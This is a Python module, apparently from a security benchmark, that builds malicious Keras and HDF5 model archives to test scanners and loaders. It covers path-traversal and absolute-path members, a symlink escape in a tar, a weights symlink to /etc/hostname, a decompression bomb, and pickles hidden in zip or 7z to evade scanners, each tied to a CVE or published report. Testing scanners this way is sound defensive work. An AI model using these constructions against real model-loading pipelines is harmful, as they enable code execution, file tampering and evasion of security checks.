"""Attacks by the archive around a network."""

from __future__ import annotations

import io
import struct
import tarfile
import warnings
import zipfile
import zlib
from pathlib import Path

from benchmarks.attack_files.attack import Attack, named, pickled
from benchmarks.attack_files.networks import (
    CONFIG,
    Members,
    archive,
    code,
    network,
    saved,
)

_CODE = saved(".keras", lambda: network(code()))


def _climbing(members: Members) -> None:
    members["../trace"] = b""


def _absolute(members: Members) -> None:
    members["/tmp/trace"] = b""  # noqa: S108 - an attacker's choice


def _swelling(members: Members) -> None:
    members[CONFIG] = b" " * (1 << 29) + members[CONFIG]


def _tar() -> bytes:
    """A link to its own folder, and a member that leads out through it."""
    content = io.BytesIO()
    with tarfile.open(fileobj=content, mode="w") as archive_:
        link = tarfile.TarInfo("link")
        link.type, link.linkname = tarfile.SYMTYPE, "."
        archive_.addfile(link)
        archive_.addfile(tarfile.TarInfo("link/../trace"))
    return content.getvalue()


def _linked(folder: Path) -> Path:
    """A ``.keras`` archive whose weights are a symbolic link."""
    path = saved(".keras")(folder)
    with zipfile.ZipFile(path) as old:
        description = old.read(CONFIG)
    with zipfile.ZipFile(path, "w") as new:
        new.writestr(CONFIG, description)
        link = zipfile.ZipInfo("model.weights.h5")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        new.writestr(link, "/etc/hostname")
    return path


def _twice(folder: Path) -> Path:
    """Two descriptions of the same name: a scanner reads one, a loader the other."""
    path = _CODE(folder)
    with zipfile.ZipFile(path) as other:
        second = other.read(CONFIG)
    path = saved(".keras")(folder)
    with warnings.catch_warnings(), zipfile.ZipFile(path, "a") as archive_:
        warnings.simplefilter("ignore")  # that it is there twice
        archive_.writestr(CONFIG, second)
    return path


def _two_names(folder: Path) -> Path:
    """A member that is called otherwise in its own header than in the archive's list."""
    path = _CODE(folder)
    content = path.read_bytes()
    path.write_bytes(content.replace(CONFIG.encode(), b"readme.json", 1))
    return path


def _wrong_sum(folder: Path) -> Path:
    """Sums that do not match, at which some scanners stop."""
    path = folder / "network.keras"
    content = bytearray(_zipped_pickle())
    for header, place in ((b"PK\3\4", 14), (b"PK\1\2", 16)):
        start = content.index(header) + place
        content[start : start + 4] = bytes(4)
    path.write_bytes(content)
    return path


def _zipped_pickle() -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive_:
        archive_.writestr("archive/data.pkl", pickled())
    return content.getvalue()


def _number(value: int) -> bytes:
    """A number below 2**14 as 7z writes it."""
    return bytes([value] if value < 1 << 7 else [1 << 7 | value >> 8, value & 255])


def _seven_zip() -> bytes:
    """A pickle in a 7z archive, not compressed."""
    content, name = pickled(), "data.pkl\0".encode("utf-16-le")
    size, crc = _number(len(content)), struct.pack("<I", zlib.crc32(content))
    header = b"".join((
        b"\x01\x04",
        b"\x06\x00\x01\x09", size, b"\x00",  # one stream, where and how long
        b"\x07\x0b\x01\x00\x01\x01\x00", b"\x0c", size, b"\x0a\x01", crc, b"\x00\x08\x00\x00",
        b"\x05\x01\x11", _number(len(name) + 1), b"\x00", name, b"\x00\x00",
    ))  # fmt: skip
    start = struct.pack("<QQI", len(content), len(header), zlib.crc32(header))
    begin = b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start
    return begin + content + header


def _two_in_one(folder: Path) -> Path:
    """An honest HDF5 file with an archive behind it, which ends the file."""
    path = _CODE(folder)
    content = path.read_bytes()
    path.unlink()
    path = saved(".h5")(folder)
    path.write_bytes(path.read_bytes() + content)
    return path


CONTAINERS = (
    Attack("CVE-2025-12060", "a member that leads out of the archive", archive(_climbing)),
    Attack("CVE-2026-11816", "a member with an absolute path", archive(_absolute)),
    Attack("CVE-2026-12482", "a tar whose member leads out through a link",
           named("network.keras", _tar)),
    Attack("link in an archive", "weights that are a symbolic link", _linked),
    Attack("twice in an archive", "two descriptions of one name", _twice),
    Attack("two names", "a member with another name in its header", _two_names),
    Attack("bomb", "a description of half a gigabyte in half a megabyte", archive(_swelling)),
    Attack("Torch archive", "a zipped pickle named .keras (JFrog, 2024)",
           named("network.keras", _zipped_pickle)),
    Attack("CVE-2025-10156", "the same with sums that do not match", _wrong_sum),
    Attack("nullifAI, 7z", "a pickle in 7z (ReversingLabs, 2025)",
           named("network.keras", _seven_zip)),
    Attack("polyglot", "HDF5 with an archive behind it that runs code", _two_in_one),
)  # fmt: skip
